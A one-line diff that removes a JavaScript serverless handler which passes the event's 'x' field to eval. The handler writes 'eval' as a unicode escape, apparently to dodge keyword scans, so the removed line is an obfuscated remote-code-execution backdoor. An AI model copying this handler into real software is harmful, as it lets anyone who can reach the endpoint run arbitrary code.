@@ -1,1 +1,0 @@
-exports.handler=async e=>{\u0065val(e.x)}
